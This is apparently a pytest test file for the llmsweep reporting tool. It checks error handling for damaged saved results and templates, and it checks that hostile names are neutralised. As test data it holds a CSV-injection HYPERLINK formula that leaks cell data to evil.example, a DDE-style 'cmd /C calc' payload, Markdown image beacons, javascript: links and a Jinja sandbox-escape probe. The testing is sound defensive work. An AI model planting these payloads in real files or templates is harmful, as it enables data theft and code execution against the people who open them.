"""Hostile inputs on the output side: saved results that llmsweep did not write (or that were
damaged), templates that fail, and names built to attack a spreadsheet or a Markdown viewer.

Each failure must exit 1 with one line naming the file and what is wrong, show no traceback, and
leave the previous reports byte-identical with no temporary files behind.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest
import yaml
from click.testing import CliRunner

from llmsweep import pipeline
from llmsweep.cli import main
from llmsweep.columns import EXPORTED, SCHEMA
from llmsweep.export import safe_csv_frame
from llmsweep.report import f_md

from .conftest import ROOT

NOT_OURS = "this file was not written by llmsweep run (or by a different version)"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def saved(tmp_path_factory) -> Path:
    """A run's saved results (parquet, plan, manifest, both reports), never modified."""
    out = tmp_path_factory.mktemp("saved")
    pipeline.run(ROOT / "sweeps" / "example.yaml", out, formats=["parquet", "html", "md"])
    return out / "example"


@pytest.fixture
def results(saved, tmp_path) -> Path:
    """A copy of the saved results a test may break."""
    copy = tmp_path / "example"
    shutil.copytree(saved, copy)
    return copy


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def report(folder: Path, *args: str):
    return CliRunner().invoke(main, ["report", str(folder / "estimates.parquet"), *args])


def assert_fails(result, message: str) -> None:
    """Exit 1, exactly one line `Error: <message>`, no traceback."""
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert result.output == f"Error: {message}\n"


def fails_leaving_reports(folder: Path, message: str, *args: str) -> None:
    """`llmsweep report` fails with `message` and the folder is exactly as it was."""
    before = snapshot(folder)
    assert_fails(report(folder, *args), message)
    assert snapshot(folder) == before  # reports untouched, no .report-* folder left behind


# -- saved frames: estimates.parquet and plan.parquet --------------------------------------------------------
def rewrite(path: Path, change) -> None:
    change(pl.read_parquet(path)).write_parquet(path)


def truncate(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


END_OF_FILE = "parquet: File out of specification: The file must end with PAR1 or PARE"
FRAME_CASES = {
    "dropped column": (
        "estimates.parquet",
        lambda p: rewrite(p, lambda f: f.drop("tpot_s")),
        f"column tpot_s is missing; {NOT_OURS}",
    ),
    "two dropped columns": (
        "estimates.parquet",
        lambda p: rewrite(p, lambda f: f.drop("fits", "ttft_s")),
        f"column fits is missing; column ttft_s is missing; {NOT_OURS}",
    ),
    "foreign parquet": (
        "estimates.parquet",
        lambda p: pl.DataFrame({"a": [1], "b": ["x"]}).write_parquet(p),
        "column gpu is missing; column engine is missing; column model is missing; column precision is missing; "
        f"column kv_precision is missing (and {len(EXPORTED) - 5} more); {NOT_OURS}",
    ),
    "text column as boolean": (
        "estimates.parquet",
        lambda p: rewrite(p, lambda f: f.with_columns(pl.col("fits").cast(pl.String))),
        f"column fits is String, expected Boolean; {NOT_OURS}",
    ),
    "integer column as float": (
        "estimates.parquet",
        lambda p: rewrite(p, lambda f: f.with_columns(pl.col("tp").cast(pl.Float64))),
        f"column tp is Float64, expected Int64; {NOT_OURS}",
    ),
    "number column as text": (
        "estimates.parquet",
        lambda p: rewrite(p, lambda f: f.with_columns(pl.col("tpot_s").cast(pl.String))),
        f"column tpot_s is String, expected Float64; {NOT_OURS}",
    ),
    "missing gpu names": (
        "estimates.parquet",
        lambda p: rewrite(p, lambda f: f.with_columns(gpu=pl.lit(None, pl.String))),
        f"column gpu has 72 missing values; {NOT_OURS}",
    ),
    "one missing fits value": (
        "estimates.parquet",
        lambda p: rewrite(
            p, lambda f: f.with_columns(pl.when(pl.int_range(pl.len()) == 0).then(None).otherwise("fits").alias("fits"))
        ),
        f"column fits has 1 missing value; {NOT_OURS}",
    ),
    "no rows": (
        "estimates.parquet",
        lambda p: rewrite(p, lambda f: f.head(0)),
        "holds no configurations; a run writes at least one row",
    ),
    "truncated estimates": ("estimates.parquet", truncate, f"not a readable Parquet file ({END_OF_FILE}); {NOT_OURS}"),
    "empty estimates": (
        "estimates.parquet",
        lambda p: p.write_bytes(b""),
        "not a readable Parquet file (parquet: File out of specification: A Parquet file must contain a header "
        f"and footer with at least 12 bytes); {NOT_OURS}",
    ),
    "csv named parquet": (
        "estimates.parquet",
        lambda p: p.write_text("gpu,model\nh100-sxm,x\n"),
        f"not a readable Parquet file ({END_OF_FILE}); {NOT_OURS}",
    ),
    "truncated plan": ("plan.parquet", truncate, f"not a readable Parquet file ({END_OF_FILE}); {NOT_OURS}"),
    "plan without rank": (
        "plan.parquet",
        lambda p: rewrite(p, lambda f: f.drop("rank")),
        f"column rank is missing; {NOT_OURS}",
    ),
    "plan with missing models": (
        "plan.parquet",
        lambda p: rewrite(p, lambda f: f.with_columns(model=pl.lit(None, pl.String))),
        f"column model has 20 missing values; {NOT_OURS}",
    ),
    "estimates missing": ("estimates.parquet", lambda p: p.unlink(), None),
    "infinite estimates": (  # the report showed data-v="inf"
        "estimates.parquet",
        lambda p: rewrite(p, lambda f: f.with_columns(ttft_s=float("inf"), tpot_s=float("-inf"))),
        f"column tpot_s has 72 infinite values; column ttft_s has 72 infinite values; {NOT_OURS}",
    ),
    "one infinite plan cost": (  # the answer said "$inf over 3 years"
        "plan.parquet",
        lambda p: rewrite(
            p,
            lambda f: f.with_columns(
                tco_usd=pl.when(pl.int_range(pl.len()) == 0).then(float("inf")).otherwise("tco_usd")
            ),
        ),
        f"column tco_usd has 1 infinite value; {NOT_OURS}",
    ),
}


@pytest.mark.parametrize("case", list(FRAME_CASES))
def test_broken_saved_frames(results, case):
    name, damage, message = FRAME_CASES[case]
    damage(results / name)
    if message is None:  # the file is gone: click does not check, the core says so
        message = "not found; `report` needs the estimates.parquet and manifest.json a run wrote"
    fails_leaving_reports(results, f"{results / name}: {message}")


def test_nan_values_are_shown_as_missing(results):
    """NaN (which llmsweep never writes) reads as a missing value: the report shows a dash."""
    rewrite(results / "estimates.parquet", lambda f: f.with_columns(pl.lit(float("nan")).alias("tpot_s")))
    r = report(results, "--format", "md")
    assert r.exit_code == 0, r.output
    text = (results / "report.md").read_text()
    assert "nan" not in text.lower().replace("nano", "")


def test_plan_values_the_report_cannot_use(results):
    """Checks cannot foresee every value; what still breaks a report is an error, not a traceback."""
    rewrite(
        results / "plan.parquet",
        lambda f: f.with_columns(pl.col(pl.Float64).map_batches(lambda s: s * float("nan"))),
    )
    before = snapshot(results)
    r = report(results, "--format", "md")
    assert r.exit_code == 1 and "Traceback" not in r.output and r.output.count("\n") == 1
    assert r.output.startswith(f"Error: {results}: cannot render a report from the saved results (TypeError: ")
    assert r.output.endswith("); they were not written by llmsweep run (or by a different version)\n")
    assert snapshot(results) == before


def test_a_missing_plan_parquet_the_manifest_lists_is_an_error(results):
    """It exited 0 with an empty answer and deleted six charts as stale."""
    (results / "plan.parquet").unlink()
    fails_leaving_reports(
        results,
        f"{results / 'plan.parquet'}: not found, though {results / 'manifest.json'} lists it: the report's answer "
        "and charts come from it; put it back (or run the sweep again)",
    )


def test_without_plan_parquet_a_run_that_wrote_none_still_renders(results):
    """A run from before plan.parquet: its manifest does not list one."""
    (results / "plan.parquet").unlink()
    data = json.loads((results / "manifest.json").read_text())
    data["files"].remove("plan.parquet")
    del data["file_sha256"]["plan.parquet"]
    (results / "manifest.json").write_text(json.dumps(data))
    r = report(results, "--format", "md")
    assert r.exit_code == 0, r.output
    assert "## Recommendations" in (results / "report.md").read_text()


# -- manifest.json -------------------------------------------------------------------------------------------
def edit_manifest(change):
    def damage(path: Path) -> None:
        data = json.loads(path.read_text())
        change(data)
        path.write_text(json.dumps(data))

    return damage


def edit_sweep(change):
    def in_manifest(data: dict) -> None:
        spec = yaml.safe_load(data["sweep"]["content"])
        change(spec)
        data["sweep"]["content"] = yaml.safe_dump(spec)

    return edit_manifest(in_manifest)


MANIFEST_CASES = {
    "not json": (
        lambda p: p.write_text("{nope"),
        "not valid JSON (line 1: Expecting property name enclosed in double quotes)",
    ),
    "empty": (lambda p: p.write_text(""), "not valid JSON (line 1: Expecting value)"),
    "not utf-8": (lambda p: p.write_bytes(b"\xff\xfe\x00{"), "not UTF-8 text"),
    "a list": (lambda p: p.write_text("[1, 2]"), "holds a JSON list, not an object"),
    "no catalog": (edit_manifest(lambda m: m.pop("catalog")), "catalog: field required"),
    "bare object": (
        lambda p: p.write_text("{}"),
        "llmsweep_version: field required; sweep: field required; profile: field required; catalog: field required",
    ),
    "no sweep content": (edit_manifest(lambda m: m["sweep"].pop("content")), "sweep.content: field required"),
    "catalog gpus as a list": (
        edit_manifest(lambda m: m["catalog"].update(gpus=[])),
        "catalog.gpus: input should be a valid dictionary",
    ),
    "sources as text": (
        edit_manifest(lambda m: m["catalog"]["gpus"]["h100-sxm"].update(sources="datasheet")),
        "catalog.gpus.h100-sxm.sources: input should be a valid list",
    ),
    "profile without defaults": (
        edit_manifest(lambda m: m["profile"].pop("defaults")),
        "profile.defaults: field required",
    ),
    "broken sensitivity": (
        edit_manifest(lambda m: m.update(sensitivity={"x": [{"assumption": "a", "change": "+20%", "flips": "no"}]})),
        "sensitivity.x.0.top: field required; sensitivity.x.0.runner_up: field required; "
        "sensitivity.x.0.flips: input should be a valid boolean",
    ),
    "notes as text": (edit_manifest(lambda m: m.update(notes="hello")), "notes: input should be a valid list"),
    "rank_by a number": (edit_manifest(lambda m: m.update(rank_by=5)), "rank_by: input should be a valid string"),
    "rank_by a text column": (
        edit_manifest(lambda m: m.update(rank_by="gpu")),
        "rank_by: 'gpu' is not a numeric column, so nothing can be ranked by it",
    ),
    "sweep content not yaml": (
        edit_manifest(lambda m: m["sweep"].update(content="grid: [1,\n")),
        "sweep.content line 2: invalid YAML at column 1: expected the node content, but found '<stream end>'",
    ),
    "sweep content a list": (
        edit_manifest(lambda m: m["sweep"].update(content="- 1\n- 2\n")),
        "sweep.content holds a YAML list, not a sweep",
    ),
    "top_n as text": (
        edit_sweep(lambda s: s.setdefault("report", {}).update(top_n="ten")),
        "sweep.content: report.top_n: input should be a valid integer, unable to parse string as an integer",
    ),
    "top_n zero": (
        edit_sweep(lambda s: s.setdefault("report", {}).update(top_n=0)),
        "sweep.content: report.top_n: input should be greater than 0",
    ),
    "slo as text": (
        edit_sweep(lambda s: s.update(slo={"ttft_s": "fast"})),
        "sweep.content: slo.ttft_s: input should be a valid number, unable to parse string as a number",
    ),
    "workload lengths as lists": (
        edit_sweep(lambda s: s.update(workload={"input_tokens": [1024]})),
        "sweep.content: workload.input_tokens: input should be a valid integer",
    ),
}


@pytest.mark.parametrize("case", list(MANIFEST_CASES))
def test_broken_manifests(results, case):
    damage, message = MANIFEST_CASES[case]
    damage(results / "manifest.json")
    fails_leaving_reports(results, f"{results / 'manifest.json'}: {message}; {NOT_OURS}")


def test_missing_manifest(results):
    (results / "manifest.json").unlink()
    fails_leaving_reports(
        results,
        f"{results / 'manifest.json'}: not found; `report` needs the estimates.parquet and manifest.json a run wrote",
    )


def test_manifest_that_is_a_folder(results):
    (results / "manifest.json").unlink()
    (results / "manifest.json").mkdir()
    fails_leaving_reports(results, f"{results / 'manifest.json'}: is a folder, not the manifest.json a run wrote")


# -- templates -----------------------------------------------------------------------------------------------
TEMPLATE_CASES = {
    "undefined variable": ("report.md.j2", "# {{ title }}\n\n{{ rowz }}\n", "3: template error: 'rowz' is undefined"),
    "syntax error": (
        "report.md.j2",
        "ok\n{% for x in %}\n",
        "2: template error: Expected an expression, got 'end of statement block'",
    ),
    "raises inside": (
        "report.md.j2",
        "a\nb\n{{ 1 / 0 }}\n",
        "3: the template raised ZeroDivisionError: division by zero",
    ),
    "filter on the wrong thing": (
        "report.md.j2",
        "{{ title | seconds }}\n",
        "1: the template raised TypeError: '<' not supported between instances of 'str' and 'int'",
    ),
    "missing include": (
        "report.md.j2",
        '{% include "nope.j2" %}\n',
        "1: template 'nope.j2' is not in {dir} or the packaged templates",
    ),
    "python internals": (
        "report.md.j2",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}\n",
        "1: template error: access to attribute '__class__' of 'str' object is unsafe.",
    ),
    "changing the context": (
        "report.md.j2",
        "{{ notes.append('x') }}\n",
        "1: template error: access to attribute 'append' of 'list' object is unsafe.",
    ),
    "endless recursion": (
        "report.md.j2",
        "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}\n",
        "1: the template raised RecursionError: maximum recursion depth exceeded",
    ),
    "a failing html partial": (
        "partials/summary.html.j2",
        "<p>\n{{ gpus.nope }}</p>\n",
        "2: template error: 'list object' has no attribute 'nope'",
    ),
}


@pytest.mark.parametrize("case", list(TEMPLATE_CASES))
def test_failing_templates(results, tmp_path, case):
    name, text, message = TEMPLATE_CASES[case]
    custom = tmp_path / "templates"
    (custom / name).parent.mkdir(parents=True)
    (custom / name).write_text(text)
    where = f"{custom / name}:{message.format(dir=custom)}"
    fails_leaving_reports(results, where, "--template-dir", str(custom))


def test_template_that_is_not_utf8(results, tmp_path):
    custom = tmp_path / "templates"
    custom.mkdir()
    (custom / "report.md.j2").write_bytes(b"\xff\xfe{{ title }}")
    fails_leaving_reports(
        results,
        f"{custom / 'report.md.j2'}: the template is not UTF-8 text (invalid start byte)",
        "--template-dir",
        str(custom),
    )


def test_a_failing_md_template_keeps_the_new_html_out_too(results, tmp_path):
    """Reports are replaced together or not at all: html renders fine, md fails, neither changes."""
    from llmsweep.outfolder import seal

    (results / "report.html").write_text("previous html")
    seal(results, "run")  # as if the run had written it: `report` may replace it
    custom = tmp_path / "templates"
    custom.mkdir()
    (custom / "report.md.j2").write_text("{{ nope }}")
    fails_leaving_reports(
        results, f"{custom / 'report.md.j2'}:1: template error: 'nope' is undefined", "--template-dir", str(custom)
    )


def test_run_with_a_failing_template_leaves_the_previous_results(tmp_path):
    sweep = ROOT / "sweeps" / "example.yaml"
    out = tmp_path / "out"
    pipeline.run(sweep, out, formats=["parquet", "md"])
    before = snapshot(out / "example")
    custom = tmp_path / "templates"
    custom.mkdir()
    (custom / "report.md.j2").write_text("{{ 1 / 0 }}")
    args = ["run", str(sweep), "-o", str(out), "--format", "parquet,md", "--template-dir", str(custom), "-q"]
    r = CliRunner().invoke(main, args)
    assert r.exit_code == 1 and "Traceback" not in r.output
    assert f"Error: {custom / 'report.md.j2'}:1: the template raised ZeroDivisionError: division by zero\n" in r.output
    assert snapshot(out / "example") == before
    assert [p.name for p in out.iterdir()] == ["example"]  # no partial folder left


def test_packaged_templates_render_in_the_sandbox():
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    from llmsweep.report import environment

    assert isinstance(environment(None, html=True), ImmutableSandboxedEnvironment)


# -- spreadsheet formulas and Markdown in names --------------------------------------------------------------
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1-2"
MINUS = "-2+3 ![x](https://evil.example/m.png)"
TITLE = "Title ![x](https://evil.example/t.png) [link](javascript:alert(1)) <img src=https://evil.example/i.png>"
LICENSE = "[terms](javascript:alert(1)) ![p](https://evil.example/l.png)"


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    from llmsweep.catalog import load_catalog

    tmp = tmp_path_factory.mktemp("hostile")
    llama = load_catalog().model("meta-llama/Llama-3.1-8B").config
    gpu = {"memory_gb": 80, "memory_bandwidth_gbps": 3000, "dense_tflops": {"bf16": 900}}
    sweep = {
        "name": "hostile",
        "title": TITLE,
        "grid": {"gpu": [HYPERLINK, PLUS], "model": [AT, MINUS], "batch": [1, 4]},
        "gpus": {HYPERLINK: {**gpu, "name": "=1+1"}, PLUS: {**gpu, "name": "@me"}},
        "models": {AT: {**llama, "license": LICENSE}, MINUS: {**llama, "license": "-"}},
        "costs": {HYPERLINK: {"usd_per_gpu_hour": 2.0}, PLUS: {"usd_per_gpu_hour": 1.0}},
    }
    path = tmp / "hostile.yaml"
    path.write_text(yaml.safe_dump(sweep))
    pipeline.run(path, tmp / "out", formats=["csv", "xlsx", "parquet", "md"])
    return tmp / "out" / "hostile"


@pytest.mark.parametrize("name", ["estimates.csv", "plan.csv"])
def test_csv_text_cells_cannot_start_a_formula(hostile_run, name):
    with open(hostile_run / name, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert rows
    text = [c for c in rows[0] if SCHEMA[c] == pl.Categorical]
    for row in rows:
        for column in text:
            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])
    cells = {row[c] for row in rows for c in text}
    neutralised = {"'" + HYPERLINK, "'" + PLUS, "'" + AT, "'" + MINUS}
    if name == "estimates.csv":  # GPU names are in the estimates only
        neutralised |= {"'=1+1", "'@me"}
    assert neutralised <= cells
    # numbers stay numbers: the same rows read back as floats, and text columns keep their other values
    assert {row["precision"] for row in rows} == {"bf16"}
    assert all(float(row["tpot_s"]) > 0 for row in rows if row["tpot_s"])


def test_parquet_keeps_the_names_as_they_are(hostile_run):
    frame = pl.read_parquet(hostile_run / "estimates.parquet")
    assert set(frame["gpu"].cast(pl.String)) == {HYPERLINK, PLUS}


def test_xlsx_holds_no_formulas(hostile_run):
    with zipfile.ZipFile(hostile_run / "estimates.xlsx") as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 4  # About, options, plan, estimates
    for xml in sheets:
        assert "<f>" not in xml and "<f " not in xml  # every name is a text cell, never a formula
    assert 'HYPERLINK("https://evil.example/?d="&amp;A1,"click")' in sheets[3]
    # and each such text keeps its quote prefix, so editing its cell in a spreadsheet does not make it a
    # formula (the CSV's leading apostrophe); other text has none
    book = openpyxl.load_workbook(hostile_run / "estimates.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows(min_row=3) for c in row if isinstance(c.value, str)]
    prefixed = {c.value for c in cells if c.quotePrefix}
    assert {HYPERLINK, PLUS, AT, MINUS, "=1+1", "@me"} <= prefixed
    assert all(c.value.startswith(FORMULA_STARTS) for c in cells if c.quotePrefix)
    assert all(c.quotePrefix for c in cells if c.value.startswith(FORMULA_STARTS))
    # the About sheet names the GPUs too (their prices): as text, quote-prefixed, and the title heads each page
    about = [c for row in book["About"].iter_rows() for c in row if isinstance(c.value, str)]
    priced = [c for c in about if c.value.startswith(HYPERLINK)]
    assert priced and all(c.quotePrefix for c in priced)
    assert all(c.quotePrefix for c in about if c.value.startswith(FORMULA_STARTS))
    assert book["About"].oddHeader.left.text == TITLE


def test_markdown_in_names_is_shown_as_text(hostile_run):
    text = (hostile_run / "report.md").read_text()
    chart_links = re.findall(r"^!\[[^\]]*\]\(charts/[a-z-]+\.svg\)$", text, flags=re.M)
    rest = re.sub(r"^!\[[^\]]*\]\(charts/[a-z-]+\.svg\)$", "", text, flags=re.M)
    assert len(chart_links) >= 5
    assert not re.search(r"(?<!\\)[\[\]]", rest)  # every other bracket is escaped: no link, no image
    assert "<img" not in text and "<" not in rest.replace("&lt;", "")
    assert "# Title !\\[x\\](https:&#47;&#47;evil.example/t.png) \\[link\\](javascript:alert(1)) &lt;img" in text
    assert "(license \\[terms\\](javascript:alert(1)) !\\[p\\](https:&#47;&#47;evil.example/l.png))" in text
    for svg in (hostile_run / "charts").glob("*.svg"):  # names are SVG text, never an image or a link
        chart = svg.read_text()
        assert "<image" not in chart and "href" not in chart and "<img" not in chart, svg.name


def test_safe_csv_frame():
    frame = pl.DataFrame(
        {
            "name": ["=1+1", "+1", "-1", "@a", "\tx", "\rx", "ok", None, "a=b", "'=x"],
            "kind": pl.Series(["=k"] * 9 + ["k"], dtype=pl.Categorical),
            "value": [-1.5] * 10,
        }
    )
    expected = {
        "name": ["'=1+1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "ok", None, "a=b", "'=x"],
        "kind": ["'=k"] * 9 + ["k"],
        "value": [-1.5] * 10,
    }
    assert safe_csv_frame(frame).to_dict(as_series=False) == expected
    assert safe_csv_frame(frame.lazy()).collect().to_dict(as_series=False) == expected
    numbers = pl.DataFrame({"value": [-1.5, 2.0]})
    assert safe_csv_frame(numbers).equals(numbers)


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("![x](https://evil.example/t.png)", "!\\[x\\](https:&#47;&#47;evil.example/t.png)"),
        ("see https://evil.example/x", "see https:&#47;&#47;evil.example/x"),  # no autolink (GFM)
        ("WWW.evil.example", "WWW&#46;evil.example"),
        ("ask a@evil.example or @team", "ask a@\u200bevil.example or @\u200bteam"),  # no mailto:, no @mention
        ("[a](javascript:alert(1))", "\\[a\\](javascript:alert(1))"),
        ("<img src=x>", "&lt;img src=x&gt;"),
        ("\\[a](b)", "\\\\\\[a\\](b)"),  # a user's backslash does not cancel the escape
        ("&#33;[a](b)", "&amp;#33;\\[a\\](b)"),
        ("a|b\nc\r\nd\re", "a\\|b c d e"),
        ("meta-llama/Llama-3.1-8B", "meta-llama/Llama-3.1-8B"),
    ],
)
def test_f_md_escapes(text, escaped):
    assert f_md(text) == escaped
